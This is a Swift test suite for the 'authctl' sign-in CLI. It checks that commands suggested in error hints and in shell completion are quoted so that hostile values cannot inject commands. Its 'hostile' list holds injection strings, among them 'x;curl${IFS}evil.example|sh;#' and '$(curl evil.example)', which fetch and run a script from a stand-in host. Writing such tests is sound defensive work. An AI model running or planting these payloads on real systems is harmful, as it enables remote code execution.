import ArgumentParser
import Foundation
import Testing

@testable import AuthCore
@testable import authctl

/// Users paste the hints' commands into shells.
@Suite struct `A hint` {
    static let plain = "oidc.work"
    static let hostile = [
        "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
        "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "it'\u{301};curl evil.example;'\u{301}", "a\"b",
        "a\\b", "!x", "{a,b}", "é", "<a>&b", "--help",
    ]

    /// Every hint, for who named a provider and who did not.
    private func hints(_ v: String) throws -> [Hint] {
        var named = ErrorContext("failed", provider: v, again: "authctl signin --provider \(v)")
        named.command = ["signin"]
        var bare = ErrorContext("failed", again: "authctl signin")
        bare.command = ["providers", "add"]
        var password = ErrorContext("failed", provider: "password", again: "authctl signin --provider password")
        password.command = ["signin"]
        var unnamed = bare
        unnamed.command = ["signin"]
        var linking = ErrorContext("failed", provider: v, again: "authctl link --provider \(v)")
        linking.command = ["link"]
        let interaction = SignInError.interactionRequired
        return try AllErrors.all(with: v).flatMap { error in
            [named, bare].compactMap { Failure(error, while: $0).hint }
        } + [Failure(ProviderError.notConfigured(v), while: linking).hint].compactMap { $0 }
            + [password, unnamed].compactMap { Failure(interaction, while: $0).hint }
    }

    private func commands(_ hint: Hint) -> [ShellCommand] {
        hint.parts.compactMap { part in if case .command(let command) = part { command } else { nil } }
    }

    /// The words of each command, as a real shell passes them on: one for all of them.
    private func words(_ commands: [ShellCommand]) async throws -> [[String]] {
        let script = """
            words() { printf '%s\\0' "$#" "$@"; }
            curl() { printf '%s\\0' EVIL; }
            set -f
            \(commands.map { "words \($0.text)" }.joined(separator: "\n"))
            """
        let file = FileManager.default.temporaryDirectory.appending(path: "hints-\(UUID().uuidString)")
        try Data(script.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let result = try await Program(command: ["/bin/sh", file.path], environment: ["PATH": "/usr/bin:/bin"]).run()
        #expect(result.isSuccess && !result.isCut, "\(String(decoding: result.errors, as: UTF8.self))")
        var rest = result.output.split(separator: 0, omittingEmptySubsequences: false)
            .map { String(decoding: $0, as: UTF8.self) }[...]
        var all: [[String]] = []
        while rest.count > 1, let count = rest.popFirst().flatMap({ Int($0) }) {
            all.append(Array(rest.prefix(count)))
            rest = rest.dropFirst(count)
        }
        #expect(rest == [""], "something else was run: \(rest)")
        return all
    }

    private func isUnderstood(_ words: [String]) -> String? {
        do {
            _ = try Authctl.parseAsRoot(Array(words.dropFirst()))
            return nil
        } catch {
            return Authctl.exitCode(for: error).isSuccess ? nil : Authctl.message(for: error)
        }
    }

    /// Values that a parser could take for an option.
    private static let parsed: Set = [plain, "--config-dir", "-x", "", "--help", "=ls", "a b", "a\nb"]

    @Test(arguments: [plain] + hostile)
    func `has commands that run as they stand, whatever is in them`(value: String) async throws {
        // Those without a value are tried once.
        var known = value == Self.plain ? [] : Set(try hints("another").flatMap(commands).map(\.text))
        let all = try hints(value).flatMap(commands).filter { known.insert($0.text).inserted }
        let words = try await words(all)
        try #require(words.count == all.count && all.count > 25, "\(all.count)")
        for (command, words) in zip(all, words) {
            let isOurs = words.first == "authctl"
            let others = ["mv", "chmod", "sudo", "unset", "export", "apt-get", "ip", "ulimit"]
            #expect(isOurs || others.contains(words[0]), "\(command.text)")
            guard isOurs, Self.parsed.contains(value) else { continue }
            let fault = isUnderstood(words)
            #expect(fault == nil, "\(command.text): \(fault ?? "")")
        }
    }

    @Test(arguments: hostile) func `has a value as one word, whatever is in it`(value: String) async throws {
        let task = ErrorContext("failed", provider: value, again: "authctl signin --provider \(value)")
        let errors: [any Error] = [
            AccountConflict.emailAlreadyInUse(value),
            CommandError.settingsDropped([], of: value), StoreError.tooOpen(path: value, mode: 0, wanted: 0o600),
            CommandError.unknownHost(value, of: value), SignInError.startedAs(.link, id: value), CancellationError(),
        ]
        let commands = errors.compactMap { Failure($0, while: task).hint }.flatMap(commands)
        #expect(commands.count == errors.count)
        for (command, words) in zip(commands, try await words(commands)) {
            let isThere = words.contains { $0 == value || ($0.hasPrefix("--") && $0.hasSuffix("=" + value)) }
            #expect(isThere, "\(command.text) gives \(words)")
        }
    }

    @Test(arguments: hostile) func `names no provider that cannot be one`(value: String) throws {
        let task = ErrorContext("failed", again: "authctl token")
        let hint = try #require(Failure(NotSignedIn.noSession(provider: value), while: task).hint)
        #expect(commands(hint).map(\.text) == ["authctl signin"])
    }

    private func ours(_ words: some Sequence<String>) throws -> any Command {
        guard let command = try Authctl.parseAsRoot(Array(words)) as? any Command else {
            throw CommandError(.usage, "no command of ours")
        }
        return command
    }

    /// Commands that do not use an account.
    private static let ofNobody: Set = [
        "accounts list", "accounts lookup", "accounts switch", "providers", "profile", "setup", "doctor", "pending",
    ]

    @Test func `repeats in each command for whom and what the call was`() throws {
        let (profile, directory) = ("staging", "/tmp/elsewhere")
        let given = RepeatedOptions(
            options: ["--profile": profile, "--account": "bob@example.com", "--config-dir": directory],
            isAccepted: CommandPlace.accepts)
        var (known, tried) = (Set<String>(), 0)
        for command in try hints(Self.plain).map({ $0.repeating(given) }).flatMap(commands)
        where known.insert(command.text).inserted {
            guard let words = Shell.split(command.text), words.first == "authctl", !words.contains("--help") else {
                #expect(!command.text.contains("staging"), "\(command.text)")
                continue
            }
            tried += 1
            let options = try ours(words.dropFirst()).options
            #expect(options.configDir == directory, "\(command.text)")
            let place = words.dropFirst().prefix(2).joined(separator: " ")
            let hasProfile = !["profile list", "profile use"].contains(place)
            #expect(options.profile == (hasProfile ? profile : nil), "\(command.text)")
            guard !Self.ofNobody.contains(place), !Self.ofNobody.contains(words[1]), !words.contains("--retry") else {
                continue
            }
            #expect(options.account != nil, "\(command.text)")
        }
        #expect(tried > 40, "\(tried)")
    }

    @Test(arguments: [
        "signin --provider oidc.work --dpop --par --scope a --scope b,c --prompt login --acr x --param k=v --port 8400",
        "signin --provider oidc.work --flow device --login-hint ada@example.com --max-age 5m --language de --tenant common",
        "signin --resource https://api.example.com/mcp --provider oidc.work --client-metadata https://a.example/c --dpop",
        "signin --ci file --audience a --issuer https://i.example --ci-source f --require sub=x --exchange oidc.work --exchange-by jwt-bearer",
        "link --provider oidc.work --dpop --scope a", "reauth --provider oidc.work --par --dpop --flow browser",
    ])
    func `of a sign-in that failed has all that the sign-in was asked for`(line: String) throws {
        let command = try ours(line.split(separator: " ").map(String.init))
        var task = command.task
        task.command = CommandPlace.path(of: type(of: command))
        let failure = Failure(OAuthError.stateMismatch, while: task)
        let again = try #require(failure.hint.map(commands)?.first)
        let words = try #require(Shell.split(again.text))
        let repeated = try ours(words.dropFirst())
        #expect(repeated.task.again == task.again)
        let typed = Set(line.split(separator: " ").map { $0 == "5m" ? "300" : String($0) })
        #expect(typed.isSubset(of: words), "\(again.text)")
    }

    @Test func `of a sign-in loses no binding, whatever failed`() throws {
        let line = ["signin", "--provider", Self.plain, "--dpop", "--par"]
        let command = try ours(line)
        var task = command.task
        task.command = ["signin"]
        var tried = 0
        for error in try AllErrors.all(with: Self.plain) where error is OAuthError || error is SignInError {
            for command in Failure(error, while: task).hint.map(commands) ?? []
            where command.text.hasPrefix("authctl signin --provider") {
                tried += 1
                #expect(command.text.contains("--dpop") && command.text.contains("--par"), "\(error): \(command.text)")
            }
        }
        #expect(tried > 5, "\(tried)")
    }

    @Test func `of a provider that wants a proof names the flag that makes one`() throws {
        var task = ErrorContext("failed", again: "authctl signin")
        let refused = OAuthError.refused(code: "invalid_dpop_proof", description: nil, at: .token)
        task.command = ["signin"]
        #expect(Failure(refused, while: task).hint?.text.hasSuffix("authctl signin --dpop") == true)
        task.bindsTokens = true
        #expect(Failure(refused, while: task).hint == .run("authctl signin"))
    }

    @Test func `tells commands from prose, and ends a clause with each`() throws {
        let names = Set(CommandPlace.all.map { $0.path[0] })
        for hint in try hints(Self.plain) {
            #expect(!hint.text.contains("…"), "\(hint.text)")
            for (index, part) in hint.parts.enumerated() {
                guard case .prose(let text) = part else { continue }
                for match in text.matches(of: /\bauthctl ([a-z-]+)/) {
                    #expect(!names.contains(String(match.1)), "a command that nobody tries: \(hint.text)")
                }
                guard index > 0, case .command = hint.parts[index - 1] else { continue }
                #expect([",", ";", " && "].contains { text.hasPrefix($0) }, "\(hint.text)")
            }
            for command in commands(hint) {
                let isWord = command.text.split(separator: " ").allSatisfy { $0.wholeMatch(of: /[A-Z]+/) == nil }
                #expect(isWord, "something to fill in: \(command.text)")
            }
        }
    }

    /// The files of Failures, and the cases and commands that stand in them.
    private func sources() throws -> String {
        let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent().appending(path: "Sources/authctl/Failures")
        return try FileManager.default.contentsOfDirectory(at: root, includingPropertiesForKeys: nil)
            .map { String(decoding: try Data(contentsOf: $0), as: UTF8.self) }.joined(separator: "\n")
    }

    @Test func `of each case and each command in Failures is among those that are tried`() throws {
        let tried = try AllErrors.all(with: Self.plain).map { "\($0)" }.joined(separator: "\n")
        var cases = 0
        for part in try sources().split(separator: "\nextension ") {
            guard let head = part.split(separator: "\n").first, head.contains(": UserFacingError {") else { continue }
            // The text of `explanation`.
            guard let start = part.firstRange(of: "func explanation"),
                let end = part[start.upperBound...].firstRange(of: "\n")
            else { continue }
            let isShort = part[..<end.lowerBound].hasSuffix("}")
            let body = part[end.upperBound...].firstRange(of: "\n    }")?.lowerBound ?? part.endIndex
            for match in part[..<(isShort ? end.lowerBound : body)].matches(of: /case \.([a-z][A-Za-z]+)/) {
                cases += 1
                let isTried = tried.contains(match.1)
                #expect(isTried, "\(head) .\(match.1)")
            }
        }
        #expect(cases > 130, "\(cases)")
        let commands = try hints(Self.plain).flatMap(commands).map(\.text)
        var found = 0
        for match in try sources().matches(of: /"(authctl (?:[^"\\]|\\\([^"]*?\))*)"/) {
            // Each interpolation is some text.
            let pieces = match.1.split(separator: /\\\([^"]*?\)+/).map(String.init)
            found += 1
            let isTried = commands.contains { command in
                var rest = command[...]
                for piece in pieces {
                    guard let range = rest.firstRange(of: piece) else { return false }
                    rest = rest[range.upperBound...]
                }
                return command.hasPrefix(pieces[0])
            }
            #expect(isTried, "\(match.1)")
        }
        #expect(found > 60, "\(found)")
    }
}

@Suite struct `A value in a hint` {
    @Test func `that is plain stays as people write it`() {
        let hint: ShellCommand = "authctl signin --provider \("oidc.work") --email \("ada+x@example.com") \(5)"
        #expect(hint.text == "authctl signin --provider oidc.work --email ada+x@example.com 5")
        let path: ShellCommand = "chmod 600 \("/home/ada/.config/authctl/key")"
        #expect(path.text == "chmod 600 /home/ada/.config/authctl/key")
    }

    @Test func `with a dash in front is no flag`() {
        let option: ShellCommand = "authctl signin --provider \("--yes")"
        #expect(option.text == "authctl signin --provider=--yes")
        let argument: ShellCommand = "authctl accounts lookup \("--yes")"
        #expect(argument.text == "authctl accounts lookup -- --yes")
        let between: ShellCommand = "authctl providers set \("-x") --api-host \("-y")"
        #expect(between.text == "authctl providers set --api-host=-y -- -x")
        let longer: ShellCommand = "\(between) --json"
        #expect(longer.text == "authctl providers set --api-host=-y --json -- -x")
        let several: ShellCommand = "mv \("-x") \("-x.old")"
        #expect(several.text == "mv -- -x -x.old")
    }
}

@Suite struct `What is shown on a terminal` {
    @Test func `of data has its lines and tabs, and nothing hidden`() {
        let bytes = Array("a\tb\r\nc\u{1B}[31m\u{202E}\n".utf8) + [0x9B, 0x41, 10]
        let shown = Output.shown(bytes)
        #expect(shown == "a\tb\nc\\u{1b}[31m\\u{202e}\n\u{FFFD}A\n")
    }

    @Test func `names that a shell would run are not offered to complete`() {
        let names = [
            "ada@example.com", "oidc.work", "$(touch x)@a.example", "`x`@a", "a b", "-x", "x;y@a", "a\nb",
            "é@a.example",
            "\u{202E}a", "a'b", "a\\b",
        ]
        #expect(Completions.offered(names) == ["ada@example.com", "oidc.work", "é@a.example"])
    }
}
